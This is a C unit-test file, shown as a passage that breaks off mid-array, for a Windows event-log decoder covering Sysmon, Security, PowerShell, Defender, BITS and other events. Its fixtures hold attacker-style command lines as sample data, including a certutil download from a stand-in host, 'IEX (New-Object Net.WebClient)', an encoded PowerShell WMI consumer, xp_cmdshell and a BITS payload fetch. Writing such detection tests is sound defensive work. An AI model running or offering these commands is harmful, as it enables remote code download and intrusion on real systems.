/*
 * test_decode_windows.c — Windows event records (engine/decode/decode_sysmon.c
 * over engine/core/winevents.h): every mapped (source, EventID) decoded from
 * the same record in the three layouts (Winlogbeat, flat, evtx_dump) gives
 * the same event; the conversions; what is refused and why.
 */
#include "tests/unit/unit.h"
#include "engine/decode/decode.h"
#include "engine/core/winevents.h"
#include "engine/core/match.h"

#include <stdlib.h>

static pal_arena A;
static pal_event EV;
static char ERR[512];
static int RC;

static int decode_fmt(const char *line, pal_input_format fmt)
{
    pal_arena_reset(&A);
    memset(ERR, 'x', sizeof ERR);   /* the decoder must always terminate err */
    RC = pal_event_decode(line, strlen(line), fmt, NULL, &A, &EV, ERR, sizeof ERR);
    return RC;
}
static int decode(const char *line) { return decode_fmt(line, PAL_INPUT_AUTO); }

static const pal_value *slot(const pal_event *ev, int i)
{
    static const pal_value missing;
    return ev->rec.slots && i >= 0 ? pal_record_ref(&ev->rec, (uint32_t)i) : &missing;
}

static const char *val_text(const pal_value *v, char *b, size_t cap)
{
    switch (v->tag) {
    case PV_UNDEF: return "(undef)";
    case PV_STR: snprintf(b, cap, "%.*s", (int)v->len, v->u.s); return b;
    case PV_INT: snprintf(b, cap, "%lld", (long long)v->u.i); return b;
    case PV_BOOL: return v->u.i ? "true" : "false";
    case PV_IP: pal_ip_format(v->u.ip, (v->flags & PVF_IPV6) != 0, b, cap); return b;
    case PV_LIST: {
        size_t o = 0;
        o += (size_t)snprintf(b + o, cap - o, "[");
        for (uint32_t i = 0; i < v->len && o + 64 < cap; i++) {
            char item[256];
            o += (size_t)snprintf(b + o, cap - o, "%s%s", i ? "," : "", val_text(&v->u.items[i], item, sizeof item));
        }
        snprintf(b + o, cap - o, "]");
        return b;
    }
    default: return "(other)";
    }
}

static const char *S(const char *name)
{
    static char buf[4][1024];
    static int k;
    int i = pal_schema_find(EV.rec.schema, name, strlen(name));
    if (i < 0) { fprintf(stderr, "no field %s in the event schema\n", name); return "(no field)"; }
    return val_text(slot(&EV, i), buf[k++ & 3], sizeof buf[0]);
}

/* ---- one record rendered in the three layouts ---- */

typedef struct kv { const char *key, *json; } kv;   /* json: a JSON value as text */

typedef struct record {
    const char *channel, *provider;
    int id;
    kv data[24];
} record;

static size_t put(char *out, size_t o, size_t cap, const char *fmt, const char *a, const char *b)
{
    int n = snprintf(out + o, o < cap ? cap - o : 0, fmt, a, b);
    return o + (n > 0 ? (size_t)n : 0);
}

/* top: the flat layout's top level, where Channel is the record's (System
   104's own Channel, the log cleared, is not written there) */
static void data_object(const record *r, char *out, size_t *o, size_t cap, bool top)
{
    for (unsigned i = 0; i < 24 && r->data[i].key; i++)
        if (!top || strcmp(r->data[i].key, "Channel"))
            *o = put(out, *o, cap, (i || top) ? ",\"%s\":%s" : "\"%s\":%s", r->data[i].key, r->data[i].json);
}

static void render(const record *r, int layout, char *out, size_t cap)
{
    char id[16];
    snprintf(id, sizeof id, "%d", r->id);
    size_t o = 0;
    /* a UserData record (1102): Winlogbeat's user_data with xml_name,
       evtx_dump's UserData.<element>, NXLog's values at the top level */
    const char *el = pal_win_user_data_element(pal_win_source_of_channel(r->channel, strlen(r->channel)), r->id);
    if (layout == 0) {            /* Winlogbeat */
        o = put(out, o, cap, "{\"winlog\":{\"channel\":\"%s\",\"provider_name\":\"%s\"", r->channel, r->provider);
        o = put(out, o, cap, ",\"event_id\":\"%s\",\"computer_name\":\"%s\",\"record_id\":77,", id, "WINCTR-HOST01");
        o = put(out, o, cap, "\"%s\":{%s", el ? "user_data" : "event_data", "");
        if (el) o = put(out, o, cap, "\"xml_name\":\"%s\"%s", el, r->data[0].key ? "," : "");
        data_object(r, out, &o, cap, false);
        o = put(out, o, cap, "}}}%s%s", "", "");
    } else if (layout == 1) {     /* flat, as NXLog writes it */
        bool own_type = false;   /* NXLog writes its severity as EventType, unless the record has one */
        for (unsigned i = 0; i < 24 && r->data[i].key; i++) own_type = own_type || !strcmp(r->data[i].key, "EventType");
        o = put(out, o, cap, "{\"EventTime\":\"2024-03-12 10:05:00\"%s,\"Channel\":\"%s\",", own_type ? "" :
                ",\"EventType\":\"INFO\"", r->channel);
        o = put(out, o, cap, "\"SourceName\":\"%s\"%s", r->provider, "");
        o = put(out, o, cap, ",\"EventID\":%s,\"Hostname\":\"%s\",\"RecordNumber\":77", id, "WINCTR-HOST01");
        data_object(r, out, &o, cap, true);
        o = put(out, o, cap, "}%s%s", "", "");
    } else {                      /* evtx_dump */
        o = put(out, o, cap, "{\"Event\":{\"#attributes\":{\"xmlns\":\"%s\"},\"System\":{\"Provider\":{\"#attributes\":"
                "{\"Name\":\"%s\"}}", "http://schemas.microsoft.com/win/2004/08/events/event", r->provider);
        o = put(out, o, cap, ",\"EventID\":%s,\"Channel\":\"%s\"", id, r->channel);
        o = put(out, o, cap, ",\"Computer\":\"%s\",\"EventRecordID\":77%s},", "WINCTR-HOST01", "");
        if (el)
            o = put(out, o, cap, "\"UserData\":{\"%s\":{\"#attributes\":{\"xmlns\":\"%s\"},", el,
                    "http://manifests.microsoft.com/win/2004/08/windows/eventlog");
        else
            o = put(out, o, cap, "\"EventData\":{%s%s", "", "");
        data_object(r, out, &o, cap, false);
        o = put(out, o, cap, "}}}%s%s", el ? "}" : "", "");
    }
}

#define SYSMON "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"
#define SECURITY "Security", "Microsoft-Windows-Security-Auditing"
#define S_(x) "\"" x "\""

static const record records[] = {
    {SYSMON, 1, {{"UtcTime", S_("2024-03-12 10:05:01.250")}, {"ProcessGuid", S_("{a-1}")}, {"ProcessId", S_("5100")},
                 {"Image", S_("C:\\\\Windows\\\\System32\\\\certutil.exe")}, {"OriginalFileName", S_("CertUtil.exe")},
                 {"Description", S_("CertUtil.exe")}, {"Company", S_("Microsoft Corporation")},
                 {"CommandLine", S_("certutil -urlcache -f http://x/a a.exe")}, {"User", S_("CORP\\\\app")},
                 {"LogonId", S_("0x3e7")}, {"IntegrityLevel", S_("High")},
                 {"Hashes", S_("MD5=AA11,SHA256=BB22,IMPHASH=CC33")}, {"ParentProcessId", S_("4400")},
                 {"ParentImage", S_("C:\\\\Windows\\\\System32\\\\cmd.exe")}, {"ParentUser", S_("NT AUTHORITY\\\\SYSTEM")}}},
    {SYSMON, 3, {{"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\a.exe")}, {"Protocol", S_("tcp")},
                 {"Initiated", S_("true")}, {"SourceIp", S_("10.0.0.5")}, {"SourcePort", S_("49700")},
                 {"DestinationIp", S_("203.0.113.9")}, {"DestinationPort", S_("443")},
                 {"DestinationHostname", S_("c2.example.net")}}},
    {SYSMON, 5, {{"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\a.exe")}}},
    {SYSMON, 6, {{"ImageLoaded", S_("C:\\\\Windows\\\\System32\\\\drivers\\\\evil.sys")}, {"Hashes", S_("SHA1=DD44")},
                 {"Signed", S_("false")}, {"SignatureStatus", S_("Unavailable")}}},
    {SYSMON, 7, {{"ProcessId", S_("6120")}, {"Image", S_("C:\\\\app\\\\a.exe")},
                 {"ImageLoaded", S_("C:\\\\Windows\\\\System32\\\\amsi.dll")}, {"OriginalFileName", S_("AMSI.DLL")},
                 {"Signed", S_("true")}, {"Signature", S_("Microsoft Windows")}, {"SignatureStatus", S_("Valid")}}},
    {SYSMON, 8, {{"SourceProcessGuid", S_("{s-1}")}, {"SourceProcessId", S_("7400")},
                 {"SourceImage", S_("C:\\\\app\\\\a.exe")}, {"TargetProcessId", S_("632")},
                 {"TargetImage", S_("C:\\\\Windows\\\\System32\\\\lsass.exe")}, {"StartAddress", S_("0x7FF6A0001000")},
                 {"StartModule", S_("-")}, {"StartFunction", S_("-")}, {"SourceUser", S_("CORP\\\\app")}}},
    {SYSMON, 10, {{"SourceProcessGUID", S_("{s-2}")}, {"SourceProcessId", S_("7400")}, {"SourceThreadId", S_("7404")},
                  {"SourceImage", S_("C:\\\\app\\\\a.exe")}, {"TargetProcessId", S_("632")},
                  {"TargetImage", S_("C:\\\\Windows\\\\system32\\\\lsass.exe")}, {"GrantedAccess", S_("0x1010")},
                  {"CallTrace", S_("C:\\\\Windows\\\\SYSTEM32\\\\ntdll.dll+9d204")}}},
    {SYSMON, 11, {{"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\a.exe")},
                  {"TargetFilename", S_("C:\\\\Users\\\\Public\\\\b.ps1")}}},
    {SYSMON, 12, {{"EventType", S_("CreateKey")}, {"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\a.exe")},
                  {"TargetObject", S_("HKU\\\\S-1-5-21-1\\\\Software\\\\Classes\\\\ms-settings\\\\shell")}}},
    {SYSMON, 13, {{"EventType", S_("SetValue")}, {"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\a.exe")},
                  {"TargetObject", S_("HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\x\\\\Start")},
                  {"Details", S_("DWORD (0x00000002)")}}},
    {SYSMON, 14, {{"EventType", S_("RenameKey")}, {"Image", S_("C:\\\\app\\\\a.exe")},
                  {"TargetObject", S_("HKLM\\\\SOFTWARE\\\\a")}, {"NewName", S_("HKLM\\\\SOFTWARE\\\\b")}}},
    {SYSMON, 15, {{"Image", S_("C:\\\\app\\\\a.exe")}, {"TargetFilename", S_("C:\\\\Users\\\\Public\\\\x.exe:Zone.Identifier")},
                  {"Hash", S_("SHA256=EE55,IMPHASH=AB12")}, {"Contents", S_("[ZoneTransfer]  ZoneId=3")}}},
    {SYSMON, 17, {{"Image", S_("C:\\\\app\\\\a.exe")}, {"PipeName", S_("\\\\PSEXESVC")}}},
    {SYSMON, 18, {{"Image", S_("C:\\\\app\\\\a.exe")}, {"PipeName", S_("\\\\lsarpc")}}},
    {SYSMON, 19, {{"EventType", S_("WmiFilterEvent")}, {"Operation", S_("Created")},
                  {"EventNamespace", S_("root\\\\cimv2")}, {"Name", S_("f")}, {"Query", S_("SELECT * FROM x")},
                  {"User", S_("CORP\\\\admin")}}},
    {SYSMON, 20, {{"EventType", S_("WmiConsumerEvent")}, {"Operation", S_("Created")}, {"Name", S_("c")},
                  {"Type", S_("Command Line")}, {"Destination", S_("powershell -enc AAAA")}}},
    {SYSMON, 21, {{"EventType", S_("WmiBindingEvent")}, {"Operation", S_("Created")}, {"Consumer", S_("c")},
                  {"Filter", S_("f")}}},
    {SYSMON, 22, {{"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\a.exe")}, {"QueryName", S_("pool.example.org")},
                  {"QueryStatus", S_("0")}, {"QueryResults", S_("type:  5 x.example.org;::ffff:203.0.113.20;")}}},
    {SYSMON, 23, {{"Image", S_("C:\\\\app\\\\a.exe")}, {"TargetFilename", S_("C:\\\\Users\\\\Public\\\\b.ps1")},
                  {"Hashes", S_("MD5=FF66")}}},
    {SYSMON, 24, {{"ProcessId", S_("7400")}, {"Image", S_("C:\\\\Windows\\\\System32\\\\rdpclip.exe")}}},
    {SYSMON, 25, {{"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\a.exe")}, {"Type", S_("Image is replaced")}}},
    {SYSMON, 26, {{"Image", S_("C:\\\\app\\\\a.exe")}, {"TargetFilename", S_("C:\\\\Users\\\\Public\\\\b.ps1")}}},
    {SECURITY, 4688, {{"SubjectUserSid", S_("S-1-5-18")}, {"SubjectUserName", S_("HOST01$")},
                      {"SubjectDomainName", S_("CORP")}, {"SubjectLogonId", S_("0x3e7")},
                      {"NewProcessId", S_("0x17e8")}, {"NewProcessName", S_("C:\\\\Windows\\\\System32\\\\whoami.exe")},
                      {"TokenElevationType", S_("%%1936")}, {"ProcessId", S_("0x1130")},
                      {"CommandLine", S_("whoami /all")}, {"TargetUserName", S_("-")},
                      {"ParentProcessName", S_("C:\\\\Windows\\\\System32\\\\cmd.exe")},
                      {"MandatoryLabel", S_("S-1-16-16384")}}},
    {SECURITY, 4689, {{"SubjectUserName", S_("HOST01$")}, {"ProcessId", S_("0x17e8")},
                      {"ProcessName", S_("C:\\\\Windows\\\\System32\\\\whoami.exe")}}},
    {SECURITY, 4624, {{"TargetUserSid", S_("S-1-5-21-1-1001")}, {"TargetUserName", S_("svc-app")},
                      {"TargetDomainName", S_("CORP")}, {"TargetLogonId", S_("0x8d2a1")}, {"LogonType", S_("3")},
                      {"LogonProcessName", S_("NtLmSsp ")}, {"AuthenticationPackageName", S_("NTLM")},
                      {"WorkstationName", S_("WS7")}, {"IpAddress", S_("172.24.96.1")}, {"IpPort", S_("51234")},
                      {"ProcessId", S_("0x0")}, {"ProcessName", S_("-")}, {"TargetOutboundUserName", S_("svc-net")},
                      {"TargetOutboundDomainName", S_("CORP")}}},
    {SECURITY, 4625, {{"TargetUserName", S_("administrator")}, {"Status", S_("0xc000006d")},
                      {"SubStatus", S_("0xc000006a")}, {"LogonType", S_("10")}, {"IpAddress", S_("203.0.113.66")},
                      {"FailureReason", S_("%%2313")}}},
    {SECURITY, 4648, {{"SubjectUserName", S_("app")}, {"SubjectLogonId", S_("0x5e3")},
                      {"TargetUserName", S_("admin")}, {"TargetDomainName", S_("CORP")},
                      {"TargetServerName", S_("dc01.corp.example.com")}, {"ProcessId", S_("0x1d4")},
                      {"ProcessName", S_("C:\\\\Windows\\\\System32\\\\runas.exe")}, {"IpAddress", S_("::1")}}},
    {SECURITY, 5156, {{"ProcessID", S_("4")}, {"Application", S_("System")}, {"Direction", S_("%%14593")},
                      {"SourceAddress", S_("10.0.0.5")}, {"SourcePort", S_("445")}, {"DestAddress", S_("10.0.0.9")},
                      {"DestPort", S_("50123")}, {"Protocol", S_("6")}}},
    {"System", "Service Control Manager", 7045,
     {{"ServiceName", S_("updsvc")}, {"ImagePath", S_("%COMSPEC% /c whoami")}, {"ServiceType", S_("user mode service")},
      {"StartType", S_("demand start")}, {"AccountName", S_("LocalSystem")}}},
    {SYSMON, 2, {{"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\t.exe")}, {"TargetFilename", S_("C:\\\\app\\\\x.exe")},
                 {"CreationUtcTime", S_("2019-01-01 00:00:00.000")}, {"PreviousCreationUtcTime", S_("2024-03-12 10:00:00.000")}}},
    {SYSMON, 4, {{"UtcTime", S_("2024-03-12 10:05:01.250")}, {"State", S_("Stopped")}, {"Version", S_("15.14")},
                 {"SchemaVersion", S_("4.90")}}},
    {SYSMON, 9, {{"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\dd.exe")}, {"Device", S_("\\\\Device\\\\HarddiskVolume2")}}},
    {SYSMON, 16, {{"UtcTime", S_("2024-03-12 10:05:01.250")}, {"Configuration", S_("C:\\\\sysmon.xml")},
                  {"ConfigurationFileHash", S_("SHA256=AB")}}},
    {SYSMON, 29, {{"ProcessId", S_("7400")}, {"Image", S_("C:\\\\app\\\\a.exe")},
                  {"TargetFilename", S_("C:\\\\Temp\\\\x.exe")}, {"Hashes", S_("SHA256=EE55")}}},
    {SECURITY, 5140, {{"SubjectUserName", S_("carol")}, {"ObjectType", S_("File")}, {"IpAddress", S_("10.0.0.9")},
                      {"IpPort", S_("50123")}, {"ShareName", S_("\\\\\\\\*\\\\ADMIN$")}, {"ShareLocalPath", S_("\\\\??\\\\C:\\\\Windows")},
                      {"AccessMask", S_("0x1")}, {"AccessList", S_("%%4416")}}},
    {SECURITY, 5145, {{"SubjectUserName", S_("carol")}, {"ObjectType", S_("File")}, {"IpAddress", S_("10.0.0.9")},
                      {"IpPort", S_("50123")}, {"ShareName", S_("\\\\\\\\*\\\\IPC$")}, {"ShareLocalPath", S_("")},
                      {"RelativeTargetName", S_("spoolss")}, {"AccessMask", S_("0x3")}, {"AccessList", S_("%%4416")}}},
    {SECURITY, 4662, {{"SubjectUserName", S_("carol")}, {"ObjectServer", S_("DS")}, {"ObjectType", S_("%{19195a5b}")},
                      {"ObjectName", S_("%{abc}")}, {"OperationType", S_("Object Access")}, {"AccessMask", S_("0x100")},
                      {"AccessList", S_("%%7688")}, {"Properties", S_("%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}")},
                      {"AdditionalInfo", S_("-")}}},
    {SECURITY, 4697, {{"SubjectUserName", S_("carol")}, {"ServiceName", S_("upd")}, {"ServiceFileName", S_("cmd /c x")},
                      {"ServiceType", S_("0x10")}, {"ServiceStartType", S_("3")}, {"ServiceAccount", S_("LocalSystem")}}},
    {SECURITY, 4698, {{"SubjectUserName", S_("carol")}, {"TaskName", S_("\\\\upd")}, {"TaskContent", S_("<Task/>")}}},
    {SECURITY, 4699, {{"SubjectUserName", S_("carol")}, {"TaskName", S_("\\\\upd")}, {"TaskContent", S_("<Task/>")}}},
    {SECURITY, 4700, {{"SubjectUserName", S_("carol")}, {"TaskName", S_("\\\\upd")}}},
    {SECURITY, 4701, {{"SubjectUserName", S_("carol")}, {"TaskName", S_("\\\\upd")}}},
    {SECURITY, 4702, {{"SubjectUserName", S_("carol")}, {"TaskName", S_("\\\\upd")}, {"TaskContentNew", S_("<Task/>")}}},
    {SECURITY, 4720, {{"SubjectUserName", S_("carol")}, {"TargetUserName", S_("eve")}, {"SamAccountName", S_("eve")},
                      {"DisplayName", S_("%%1793")}, {"UserPrincipalName", S_("-")}, {"UserAccountControl", S_("%%2080")},
                      {"OldUacValue", S_("0x0")}, {"NewUacValue", S_("0x15")}}},
    {SECURITY, 4722, {{"SubjectUserName", S_("carol")}, {"TargetUserName", S_("eve")}}},
    {SECURITY, 4724, {{"SubjectUserName", S_("carol")}, {"TargetUserName", S_("eve")}}},
    {SECURITY, 4725, {{"SubjectUserName", S_("carol")}, {"TargetUserName", S_("eve")}}},
    {SECURITY, 4726, {{"SubjectUserName", S_("carol")}, {"TargetUserName", S_("eve")}}},
    {SECURITY, 4728, {{"SubjectUserName", S_("carol")}, {"TargetUserName", S_("Domain Admins")},
                      {"MemberName", S_("CN=eve,DC=corp")}, {"MemberSid", S_("S-1-5-21-1-2-3-1199")}}},
    {SECURITY, 4732, {{"SubjectUserName", S_("carol")}, {"TargetUserName", S_("Administrators")},
                      {"MemberName", S_("-")}, {"MemberSid", S_("S-1-5-21-1-2-3-1199")}}},
    {SECURITY, 4733, {{"SubjectUserName", S_("carol")}, {"TargetUserName", S_("Administrators")},
                      {"MemberName", S_("-")}, {"MemberSid", S_("S-1-5-21-1-2-3-1199")}}},
    {SECURITY, 4738, {{"SubjectUserName", S_("carol")}, {"TargetUserName", S_("eve")}, {"SamAccountName", S_("eve")},
                      {"AllowedToDelegateTo", S_("cifs/dc1")}, {"OldUacValue", S_("0x10")}, {"NewUacValue", S_("0x1010")}}},
    {SECURITY, 4756, {{"SubjectUserName", S_("carol")}, {"TargetUserName", S_("Enterprise Admins")},
                      {"MemberName", S_("CN=eve,DC=corp")}, {"MemberSid", S_("S-1-5-21-1-2-3-1199")}}},
    {"Security", "Microsoft-Windows-Eventlog", 1102,
     {{"SubjectUserSid", S_("S-1-5-21-1-2-3-500")}, {"SubjectUserName", S_("Administrator")},
      {"SubjectDomainName", S_("CORP")}, {"SubjectLogonId", S_("0x5c7a1")}}},
    {SECURITY, 5441, {{"ProviderKey", S_("DECC16CA-3F33-4346-BE1E-8FB4AE0F3D62")}, {"ProviderName", S_("Microsoft Corporation")},
                      {"FilterKey", S_("B98B75DC-17C0-4E84-BD4E-2080527CA6A6")}, {"FilterName", S_("Port Scanning Prevention Filter")},
                      {"FilterType", S_("%%16387")}, {"FilterId", S_("67430")}, {"LayerKey", S_("A3B42C97-9F04-4672-B87E-CEE9C483257F")},
                      {"LayerName", S_("ALE Receive/Accept v6 Layer")}, {"LayerId", S_("46")}, {"Conditions", S_("")},
                      {"Action", S_("%%14608")}, {"CalloutKey", S_("-")}, {"CalloutName", S_("-")}}},
    {SECURITY, 5447, {{"ProcessId", S_("1944")}, {"UserSid", S_("S-1-5-19")}, {"UserName", S_("LOCAL SERVICE")},
                      {"ProviderKey", S_("DECC16CA-3F33-4346-BE1E-8FB4AE0F3D62")}, {"ProviderName", S_("Microsoft Corporation")},
                      {"ChangeType", S_("%%16385")}, {"FilterKey", S_("{0c1f3a2e-1111-4a2b-9c3d-aaaaaaaaaaaa}")},
                      {"FilterName", S_("Block inbound to C:\\\\Tools\\\\agent.exe")}, {"FilterType", S_("%%16387")},
                      {"FilterId", S_("89123")}, {"LayerName", S_("ALE Receive/Accept v4 Layer")}, {"LayerId", S_("44")},
                      {"Action", S_("%%14609")}}},
    {"System", "Service Control Manager", 7034, {{"param1", S_("Message Queuing")}, {"param2", S_("1")},
                                                 {"Binary", S_("4d0053004d005100")}}},
    {"System", "Service Control Manager", 7036, {{"param1", S_("Print Spooler")}, {"param2", S_("stopped")}}},
    {"System", "Service Control Manager", 7040, {{"param1", S_("Windows Event Log")}, {"param2", S_("auto start")},
                                                 {"param3", S_("disabled")}, {"param4", S_("EventLog")}}},
    {"Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4103,
     {{"ContextInfo", S_("Host Application = powershell.exe")}, {"UserData", S_("")},
      {"Payload", S_("CommandInvocation(Get-Date)")}}},
    {"Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104,
     {{"MessageNumber", S_("1")}, {"MessageTotal", S_("1")}, {"ScriptBlockText", S_("IEX (New-Object Net.WebClient)")},
      {"ScriptBlockId", S_("8f1c-aaaa")}, {"Path", S_("C:\\\\Users\\\\Public\\\\x.ps1")}}},
    /* Security: object access, accounts, NTLM validation, devices */
    {SECURITY, 4657, {{"SubjectUserName", S_("carol")}, {"ObjectServer", S_("Security")}, {"ObjectType", S_("Key")},
                      {"ObjectName", S_("\\\\REGISTRY\\\\MACHINE\\\\SOFTWARE\\\\Classes\\\\CLSID\\\\{x}")},
                      {"ObjectValueName", S_("(Default)")}, {"HandleId", S_("0x1d4")},
                      {"OperationType", S_("%%1904")}, {"OldValueType", S_("-")}, {"OldValue", S_("-")},
                      {"NewValueType", S_("%%1873")}, {"NewValue", S_("C:\\\\Users\\\\Public\\\\x.dll")},
                      {"ProcessId", S_("0x1a2c")}, {"ProcessName", S_("C:\\\\Windows\\\\regedit.exe")}}},
    {SECURITY, 4663, {{"SubjectUserName", S_("carol")}, {"ObjectServer", S_("Security")}, {"ObjectType", S_("File")},
                      {"ObjectName", S_("\\\\Device\\\\CdRom0\\\\setup.exe")}, {"HandleId", S_("0x2c8")},
                      {"AccessList", S_("%%4416")}, {"AccessMask", S_("0x1")}, {"ProcessId", S_("0x10c")},
                      {"ProcessName", S_("C:\\\\Windows\\\\explorer.exe")}, {"ResourceAttributes", S_("S:AI")}}},
    {SECURITY, 4723, {{"SubjectUserName", S_("carol")}, {"TargetUserName", S_("Administrator")},
                      {"TargetSid", S_("S-1-5-21-1-500")}, {"PrivilegeList", S_("-")}}},
    {SECURITY, 4742, {{"SubjectUserName", S_("ANONYMOUS LOGON")}, {"TargetUserName", S_("DC01$")},
                      {"ComputerAccountChange", S_("-")}, {"SamAccountName", S_("-")}, {"PasswordLastSet", S_("3/12/2024 10:05:00 AM")},
                      {"DnsHostName", S_("-")}, {"ServicePrincipalNames", S_("-")}, {"PrivilegeList", S_("-")}}},
    {SECURITY, 4776, {{"PackageName", S_("MICROSOFT_AUTHENTICATION_PACKAGE_V1_0")}, {"TargetUserName", S_("admin")},
                      {"Workstation", S_("AbCdEfGhIjKlMnOp")}, {"Status", S_("0x0")}}},
    {SECURITY, 6416, {{"SubjectUserName", S_("HOST01$")}, {"DeviceId", S_("USBSTOR\\\\Disk&Ven_x")},
                      {"DeviceDescription", S_("USB Mass Storage Device")}, {"ClassId", S_("{4d36e967}")},
                      {"ClassName", S_("DiskDrive")}, {"VendorIds", S_("USBSTOR\\\\DiskX")},
                      {"LocationInformation", S_("Port_#0001")}}},
    {SYSMON, 255, {{"UtcTime", S_("2024-03-12 10:05:01.250")}, {"ID", S_("ConfigUpdate")},
                   {"Description", S_("Failed to open service configuration with error 5")}}},
    /* System: other providers */
    {"System", "Service Control Manager", 7023, {{"param1", S_("Windows Defender Firewall")},
                                                 {"param2", S_("Access is denied.")}, {"Binary", S_("6d007000")}}},
    {"System", "Microsoft-Windows-Eventlog", 104, {{"SubjectUserName", S_("Administrator")},
                                                   {"SubjectDomainName", S_("CORP")}, {"Channel", S_("Application")},
                                                   {"BackupPath", S_("C:\\\\bk\\\\app.evtx")}}},
    {"System", "Microsoft-Windows-Kernel-General", 16,
     {{"HiveNameLength", S_("52")}, {"HiveName", S_("\\\\??\\\\C:\\\\Users\\\\a\\\\AppData\\\\Local\\\\Temp\\\\SAM-1.dmp")},
      {"KeysUpdated", S_("3")}, {"DirtyPages", S_("2")}}},
    {"System", "Microsoft-Windows-Iphlpsvc", 4100, {{"IsatapRouter", S_("10.0.0.66")}}},
    {"System", "Microsoft-Windows-Kerberos-Key-Distribution-Center", 42, {{"Data", S_("krbtgt")}}},
    /* the other logs */
    {"Application", "MSSQLSERVER", 33205,
     {{"Data", S_("audit_schema_version:1\\nobject_name:xp_cmdshell\\nstatement:EXEC xp_cmdshell 'whoami'")}}},
    {"Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 1116,
     {{"Product Name", S_("Microsoft Defender Antivirus")}, {"Product Version", S_("4.18.2401.7")},
      {"Detection ID", S_("{d-1}")}, {"Threat ID", S_("2147735505")}, {"Threat Name", S_("Trojan:PowerShell/Mimikatz.A")},
      {"Severity Name", S_("Severe")}, {"Category Name", S_("Trojan")}, {"Source Name", S_("AMSI")},
      {"Process Name", S_("C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe")},
      {"Detection User", S_("CORP\\\\carol")}, {"Path", S_("amsi:_C:\\\\Users\\\\carol\\\\x.ps1")}}},
    {"Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 1117,
     {{"Product Name", S_("Microsoft Defender Antivirus")}, {"Threat Name", S_("HackTool:Win32/Mimikatz")},
      {"Source Name", S_("Real-Time Protection")}, {"Action Name", S_("Quarantine")}, {"Path", S_("file:_C:\\\\m.exe")}}},
    {"Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 5001,
     {{"Product Name", S_("Microsoft Defender Antivirus")}, {"Product Version", S_("4.18.2401.7")}}},
    {"Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 5007,
     {{"Product Name", S_("Microsoft Defender Antivirus")},
      {"Old Value", S_("HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows Defender\\\\SpyNet\\\\SubmitSamplesConsent = 0x1")},
      {"New Value", S_("HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows Defender\\\\SpyNet\\\\SubmitSamplesConsent = 0x0")}}},
    {"Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 5013,
     {{"Product Name", S_("Microsoft Defender Antivirus")},
      {"Value", S_("HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows Defender\\\\DisableAntiSpyware")}}},
    {"Microsoft-Windows-Bits-Client/Operational", "Microsoft-Windows-Bits-Client", 3,
     {{"jobTitle", S_("upd")}, {"jobId", S_("{j-1}")}, {"jobOwner", S_("CORP\\\\carol")},
      {"processPath", S_("C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe")}, {"processId", S_("5120")}}},
    {"Microsoft-Windows-Bits-Client/Operational", "Microsoft-Windows-Bits-Client", 59,
     {{"jobTitle", S_("upd")}, {"jobId", S_("{j-1}")}, {"url", S_("http://198.51.100.7/a.exe")}}},
    {"Microsoft-Windows-Bits-Client/Operational", "Microsoft-Windows-Bits-Client", 16403,
     {{"jobTitle", S_("upd")}, {"jobId", S_("{j-1}")}, {"jobOwner", S_("CORP\\\\carol")},
      {"RemoteName", S_("http://198.51.100.7/a.exe")}, {"LocalName", S_("C:\\\\Users\\\\Public\\\\a.exe")}}},
    {"Microsoft-Windows-CodeIntegrity/Operational", "Microsoft-Windows-CodeIntegrity", 3021,
     {{"FileNameBuffer", S_("C:\\\\Windows\\\\System32\\\\drivers\\\\old.sys")}}},
    {"Microsoft-Windows-CodeIntegrity/Operational", "Microsoft-Windows-CodeIntegrity", 3022,
     {{"FileNameBuffer", S_("C:\\\\Windows\\\\System32\\\\drivers\\\\old.sys")}}},
    {"Microsoft-Windows-CodeIntegrity/Operational", "Microsoft-Windows-CodeIntegrity", 3023,
     {{"FileNameBuffer", S_("C:\\\\Windows\\\\System32\\\\drivers\\\\rtcore64.sys")}}},
    {"Microsoft-Windows-CodeIntegrity/Operational", "Microsoft-Windows-CodeIntegrity", 3033,
     {{"FileNameBuffer", S_("C:\\\\x\\\\a.dll")},
      {"ProcessNameBuffer", S_("C:\\\\Windows\\\\System32\\\\lsass.exe")},
      {"RequestedPolicy", S_("8")}, {"ValidatedPolicy", S_("1")}, {"Status", S_("0xc0000428")}}},
    {"Microsoft-Windows-CodeIntegrity/Operational", "Microsoft-Windows-CodeIntegrity", 3077,
     {{"FileNameBuffer", S_("C:\\\\x\\\\b.dll")},
      {"ProcessNameBuffer", S_("C:\\\\x\\\\host.exe")}, {"RequestedPolicy", S_("12")}}},
    {"Microsoft-Windows-CodeIntegrity/Operational", "Microsoft-Windows-CodeIntegrity", 3104,
     {{"FileNameBuffer", S_("C:\\\\x\\\\c.dll")},
      {"ProcessNameBuffer", S_("C:\\\\Windows\\\\System32\\\\csrss.exe")}}},
    {"Microsoft-Windows-AppLocker/EXE and DLL", "Microsoft-Windows-AppLocker", 8002,
     {{"PolicyName", S_("EXE")}, {"RuleId", S_("{00000000-0000-0000-0000-000000000000}")}, {"RuleName", S_("-")},
      {"TargetUser", S_("S-1-5-21-1-1001")}, {"TargetProcessId", S_("4120")},
